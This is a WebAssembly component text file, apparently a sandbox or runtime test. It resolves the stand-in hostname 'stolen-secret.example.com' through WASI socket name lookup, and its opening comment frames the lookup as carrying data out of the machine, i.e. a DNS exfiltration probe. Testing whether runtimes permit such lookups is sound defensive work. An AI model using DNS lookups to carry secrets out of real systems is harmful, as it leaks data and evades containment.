;; Looks up a name, which would carry it out of the machine. Answers with 0 if the question was asked, otherwise with
;; one more than the number of the error.
(component
  (import "wasi:sockets/network@0.2.0" (instance $network
    (export "network" (type $network (sub resource)))
    (type $codes (enum "unknown" "access-denied" "not-supported" "invalid-argument" "out-of-memory" "timeout"
      "concurrency-conflict" "not-in-progress" "would-block" "invalid-state" "new-socket-limit"
      "address-not-bindable" "address-in-use" "remote-unreachable" "connection-refused" "connection-reset"
      "connection-aborted" "datagram-too-large" "name-unresolvable" "temporary-resolver-failure"
      "permanent-resolver-failure"))
    (export "error-code" (type (eq $codes)))))
  (alias export $network "network" (type $reach))
  (alias export $network "error-code" (type $error-code))
  (import "wasi:sockets/instance-network@0.2.0" (instance $instance
    (export "instance-network" (func (result (own $reach))))))
  (import "wasi:sockets/ip-name-lookup@0.2.0" (instance $lookup
    (export "resolve-address-stream" (type $answers (sub resource)))
    (export "resolve-addresses" (func (param "network" (borrow $reach)) (param "name" string)
      (result (result (own $answers) (error $error-code)))))))
  (core module $memory
    (memory (export "memory") 1)
    (data (i32.const 0) "stolen-secret.example.com"))
  (core instance $memory (instantiate $memory))
  (core func $network (canon lower (func $instance "instance-network")))
  (core func $resolve (canon lower (func $lookup "resolve-addresses") (memory (core memory $memory "memory"))))
  (core module $code
    (import "memory" "memory" (memory 1))
    (import "host" "network" (func $network (result i32)))
    (import "host" "resolve" (func $resolve (param i32 i32 i32 i32)))
    (func (export "resolve") (result i32)
      (call $resolve (call $network) (i32.const 0) (i32.const 25) (i32.const 1024))
      (if (result i32) (i32.load8_u (i32.const 1024))
        (then (i32.add (i32.const 1) (i32.load8_u (i32.const 1028))))
        (else (i32.const 0)))))
  (core instance $code (instantiate $code
    (with "memory" (instance $memory))
    (with "host" (instance (export "network" (func $network)) (export "resolve" (func $resolve))))))
  (func (export "resolve") (result u32) (canon lift (core func $code "resolve"))))
